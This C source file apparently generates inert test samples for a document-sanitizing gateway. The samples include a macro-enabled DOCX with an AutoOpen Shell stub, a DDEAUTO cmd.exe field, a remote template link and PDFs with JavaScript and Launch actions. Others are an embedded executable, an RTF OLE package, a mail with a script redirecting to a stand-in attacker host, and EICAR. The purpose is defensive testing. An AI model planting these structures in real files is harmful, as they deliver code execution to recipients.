/* The selftest corpus, built in memory: each generator writes one
 * dangerous sample of a class the gateway claims to handle. The samples
 * are inert (no working exploit code: the macro, DDE command, JavaScript
 * and program are placeholders) but carry exactly the structures the
 * sanitizers must remove. */
#include "engine/selftest_samples.h"

#include <string.h>

#include "core/sink.h"
#include "sanitizers/common/zip_write.h"

/* ---- zip (OOXML packages, archives) */

struct entry {
    const char *name;
    const char *text;
};

static bool zip_of(struct mg_buf *out, const struct entry *e, size_t n)
{
    struct mg_sink s;
    mg_sink_init_buf(&s, out);
    struct mg_zipw w;
    mg_zipw_init(&w, &s);
    bool ok = true;
    for (size_t i = 0; ok && i < n; i++)
        ok = mg_zipw_add(&w, e[i].name, (const uint8_t *)e[i].text, strlen(e[i].text), true);
    ok = ok && mg_zipw_finish(&w);
    mg_zipw_free(&w);
    return ok && !mg_buf_failed(out);
}

static const char rels[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
    "</Relationships>";

#define DOC_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
    "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:body>"
#define DOC_TAIL "</w:body></w:document>"

static const char docx_types[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
    "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
    "</Types>";

bool mg_sample_docm(struct mg_buf *out)
{
    static const struct entry e[] = {
        { "[Content_Types].xml",
          "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
          "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
          "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
          "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
          "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
          "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
          "</Types>" },
        { "_rels/.rels", rels },
        { "word/document.xml", DOC_HEAD "<w:p><w:r><w:t>Invoice (macro sample)</w:t></w:r></w:p>" DOC_TAIL },
        { "word/_rels/document.xml.rels",
          "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
          "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
          "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
          "</Relationships>" },
        /* Not a real VBA project: the sanitizer must drop the part by its
         * relationship and content type, whatever its bytes. */
        { "word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n" },
    };
    return zip_of(out, e, sizeof(e) / sizeof(e[0]));
}

bool mg_sample_dde(struct mg_buf *out)
{
    static const struct entry e[] = {
        { "[Content_Types].xml", docx_types },
        { "_rels/.rels", rels },
        { "word/document.xml", DOC_HEAD
          "<w:p><w:r><w:t>Order form</w:t></w:r></w:p>"
          "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
          "<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" </w:instrText></w:r>"
          "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>"
          "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>" DOC_TAIL },
    };
    return zip_of(out, e, sizeof(e) / sizeof(e[0]));
}

bool mg_sample_template(struct mg_buf *out)
{
    static const struct entry e[] = {
        { "[Content_Types].xml", docx_types },
        { "_rels/.rels", rels },
        { "word/document.xml", DOC_HEAD "<w:p><w:r><w:t>Meeting notes</w:t></w:r></w:p>" DOC_TAIL },
        { "word/_rels/document.xml.rels",
          "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
          "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
          "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" Target=\"settings.xml\"/>"
          "</Relationships>" },
        { "word/settings.xml",
          "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
          "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
          "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
          "<w:attachedTemplate r:id=\"rId7\"/></w:settings>" },
        { "word/_rels/settings.xml.rels",
          "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
          "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
          "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
          "Target=\"http://template.example.invalid/t.dotm\" TargetMode=\"External\"/>"
          "</Relationships>" },
    };
    return zip_of(out, e, sizeof(e) / sizeof(e[0]));
}

/* ---- PDF: objects numbered from 1, with a correct xref table */

static bool pdf_of(struct mg_buf *out, const char *const *objs, size_t n)
{
    size_t off[16];
    if (n > 16)
        return false;
    mg_buf_puts(out, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
    for (size_t i = 0; i < n; i++) {
        off[i] = out->len;
        mg_buf_printf(out, "%zu 0 obj\n%s\nendobj\n", i + 1, objs[i]);
    }
    size_t xref = out->len;
    mg_buf_printf(out, "xref\n0 %zu\n0000000000 65535 f \n", n + 1);
    for (size_t i = 0; i < n; i++)
        mg_buf_printf(out, "%010zu 00000 n \n", off[i]);
    mg_buf_printf(out, "trailer\n<< /Size %zu /Root 1 0 R >>\nstartxref\n%zu\n%%%%EOF\n", n + 1, xref);
    return !mg_buf_failed(out);
}

#define PDF_PAGES "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
#define PDF_PAGE "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
#define PDF_TEXT "<< /Length 42 >>\nstream\nBT /F1 24 Tf 72 720 Td (Sample text) Tj ET\nendstream"
#define PDF_FONT "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"

bool mg_sample_pdf_js(struct mg_buf *out)
{
    const char *o[] = { "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", PDF_PAGES, PDF_PAGE, PDF_TEXT, PDF_FONT,
                        "<< /Type /Action /S /JavaScript /JS (app.alert\\('selftest'\\);) >>" };
    return pdf_of(out, o, 6);
}

bool mg_sample_pdf_launch(struct mg_buf *out)
{
    const char *o[] = { "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", PDF_PAGES, PDF_PAGE, PDF_TEXT, PDF_FONT,
                        "<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>" };
    return pdf_of(out, o, 6);
}

bool mg_sample_pdf_embedded(struct mg_buf *out)
{
    const char *o[] = { "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(tool.exe) 6 0 R] >> >> >>",
                        PDF_PAGES, PDF_PAGE, PDF_TEXT, PDF_FONT,
                        "<< /Type /Filespec /F (tool.exe) /UF (tool.exe) /EF << /F 7 0 R >> >>",
                        "<< /Type /EmbeddedFile /Length 24 >>\nstream\nMZ placeholder program.\n\nendstream" };
    return pdf_of(out, o, 7);
}

/* ---- RTF with an embedded OLE object (objdata is an OLE1 header + junk) */

bool mg_sample_rtf(struct mg_buf *out)
{
    return mg_buf_puts(out,
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\n"
        "\\pard Report with an embedded object.\\par\n"
        "{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata "
        "01050000020000000800000050616b6167650000000000000000001000000000"
        "4d5a90000300000004000000ffff0000b8000000000000004000000000000000}"
        "{\\result {\\pict\\wmetafile8 0100}}}\\par\n}\n");
}

/* ---- archives */

/* The smallest file libmagic calls a PE32 executable: MZ header pointing
 * at a PE header with an optional header of the 32-bit kind. */
void mg_sample_pe(struct mg_buf *out)
{
    uint8_t pe[0x40 + 4 + 20 + 0xE0];
    memset(pe, 0, sizeof(pe));
    pe[0] = 'M', pe[1] = 'Z';
    pe[0x3c] = 0x40;
    memcpy(pe + 0x40, "PE\0\0", 4);
    uint8_t *coff = pe + 0x44;
    coff[0] = 0x4c, coff[1] = 0x01;          /* i386 */
    coff[2] = 0;                             /* no sections */
    coff[16] = 0xE0;                         /* optional header size */
    coff[18] = 0x02, coff[19] = 0x01;        /* executable, 32-bit */
    uint8_t *opt = coff + 20;
    opt[0] = 0x0b, opt[1] = 0x01;            /* PE32 */
    opt[68] = 2;                             /* Windows GUI */
    mg_buf_append(out, pe, sizeof(pe));
}

bool mg_sample_nested_zip(struct mg_buf *out)
{
    struct mg_buf exe, inner;
    mg_buf_init(&exe);
    mg_buf_init(&inner);
    mg_sample_pe(&exe);
    struct mg_sink s;
    mg_sink_init_buf(&s, &inner);
    struct mg_zipw w;
    mg_zipw_init(&w, &s);
    static const char txt[] = "Please run the tool.\n";
    bool ok = mg_zipw_add(&w, "readme.txt", (const uint8_t *)txt, sizeof(txt) - 1, true) &&
              mg_zipw_add(&w, "tool.exe", exe.data, exe.len, true) && mg_zipw_finish(&w);
    mg_zipw_free(&w);
    mg_sink_init_buf(&s, out);
    mg_zipw_init(&w, &s);
    ok = ok && !mg_buf_failed(&inner) &&
         mg_zipw_add(&w, "docs/notes.txt", (const uint8_t *)txt, sizeof(txt) - 1, true) &&
         mg_zipw_add(&w, "docs/inner.zip", inner.data, inner.len, false) && mg_zipw_finish(&w);
    mg_zipw_free(&w);
    mg_buf_free(&exe);
    mg_buf_free(&inner);
    return ok && !mg_buf_failed(out);
}

/* Traditional PKWARE encryption (APPNOTE 6.1), as PPAP mail uses it. */
static uint32_t crc_table[256];

static void crc_init(void)
{
    for (uint32_t i = 0; i < 256; i++) {
        uint32_t c = i;
        for (int k = 0; k < 8; k++)
            c = c & 1 ? 0xEDB88320u ^ (c >> 1) : c >> 1;
        crc_table[i] = c;
    }
}

static uint32_t crc_byte(uint32_t crc, uint8_t b)
{
    return crc_table[(crc ^ b) & 0xff] ^ (crc >> 8);
}

struct zc { uint32_t k0, k1, k2; };

static void zc_update(struct zc *z, uint8_t c)
{
    z->k0 = crc_byte(z->k0, c);
    z->k1 = (z->k1 + (z->k0 & 0xff)) * 134775813u + 1;
    z->k2 = crc_byte(z->k2, (uint8_t)(z->k1 >> 24));
}

static uint8_t zc_enc(struct zc *z, uint8_t c)
{
    uint16_t t = (uint16_t)(z->k2 | 2);
    uint8_t k = (uint8_t)((t * (t ^ 1)) >> 8);
    zc_update(z, c);
    return c ^ k;
}

static void le16(struct mg_buf *b, uint32_t v)
{
    uint8_t x[2] = { (uint8_t)v, (uint8_t)(v >> 8) };
    mg_buf_append(b, x, 2);
}

static void le32(struct mg_buf *b, uint32_t v)
{
    uint8_t x[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24) };
    mg_buf_append(b, x, 4);
}

bool mg_sample_ppap(struct mg_buf *out)
{
    static const char name[] = "mitsumori.txt";
    static const char body[] = "Estimate: 1,000,000 yen. The password follows in a second mail.\n";
    static const char pw[] = "selftest";
    size_t n = sizeof(body) - 1, nl = sizeof(name) - 1;
    crc_init();
    uint32_t crc = 0xffffffffu;
    for (size_t i = 0; i < n; i++)
        crc = crc_byte(crc, (uint8_t)body[i]);
    crc ^= 0xffffffffu;
    struct zc z = { 0x12345678u, 0x23456789u, 0x34567890u };
    for (size_t i = 0; i < sizeof(pw) - 1; i++)
        zc_update(&z, (uint8_t)pw[i]);
    uint8_t enc[12 + sizeof(body)];
    /* Fixed header bytes (the selftest is reproducible); the last one is
     * the CRC's high byte, the password check of APPNOTE 6.1.6. */
    static const uint8_t hdr[11] = { 0x5a, 0x13, 0x77, 0x01, 0xc4, 0x9e, 0x20, 0x6b, 0x3d, 0x88, 0xf0 };
    for (size_t i = 0; i < 11; i++)
        enc[i] = zc_enc(&z, hdr[i]);
    enc[11] = zc_enc(&z, (uint8_t)(crc >> 24));
    for (size_t i = 0; i < n; i++)
        enc[12 + i] = zc_enc(&z, (uint8_t)body[i]);
    uint32_t csize = (uint32_t)(n + 12);
    /* local header, data, central directory, end record */
    le32(out, 0x04034b50); le16(out, 20); le16(out, 1); le16(out, 0);
    le16(out, 0); le16(out, 0x5b21); le32(out, crc); le32(out, csize); le32(out, (uint32_t)n);
    le16(out, (uint32_t)nl); le16(out, 0);
    mg_buf_append(out, name, nl);
    mg_buf_append(out, enc, csize);
    size_t cd = out->len;
    le32(out, 0x02014b50); le16(out, 20); le16(out, 20); le16(out, 1); le16(out, 0);
    le16(out, 0); le16(out, 0x5b21); le32(out, crc); le32(out, csize); le32(out, (uint32_t)n);
    le16(out, (uint32_t)nl); le16(out, 0); le16(out, 0); le16(out, 0); le16(out, 0); le32(out, 0); le32(out, 0);
    mg_buf_append(out, name, nl);
    size_t cdlen = out->len - cd;
    le32(out, 0x06054b50); le16(out, 0); le16(out, 0); le16(out, 1); le16(out, 1);
    le32(out, (uint32_t)cdlen); le32(out, (uint32_t)cd); le16(out, 0);
    return !mg_buf_failed(out);
}

/* ---- mail: ISO-2022-JP HTML with a script and a javascript: link */

bool mg_sample_mail_2022(struct mg_buf *out)
{
    return mg_buf_puts(out,
        "From: sender@example.com\r\n"
        "To: staff@city.example.jp\r\n"
        "Subject: =?ISO-2022-JP?B?GyRCMnE1RDtxTkEkTiQ0MEZGYhsoQg==?=\r\n"
        "Date: Mon, 23 Nov 2026 09:00:00 +0900\r\n"
        "Message-ID: <selftest.1@example.com>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=ISO-2022-JP\r\n"
        "Content-Transfer-Encoding: 7bit\r\n"
        "\r\n"
        "<html><head><script>document.location='http://attacker.example.invalid/'</script></head>\r\n"
        "<body><p>\x1b$B2q5D;qNA$r$*Aw$j$7$^$9!#\x1b(B</p>\r\n"
        "<a href=\"javascript:alert(1)\">open</a></body></html>\r\n");
}

/* ---- EICAR, and a program named .pdf */

bool mg_sample_eicar(struct mg_buf *out)
{
    /* Assembled from two halves so this source file is not itself flagged. */
    static const char a[] = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-";
    static const char b[] = "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    return mg_buf_puts(out, a) && mg_buf_puts(out, b);
}

bool mg_sample_exe_as_pdf(struct mg_buf *out)
{
    mg_sample_pe(out);
    return !mg_buf_failed(out);
}
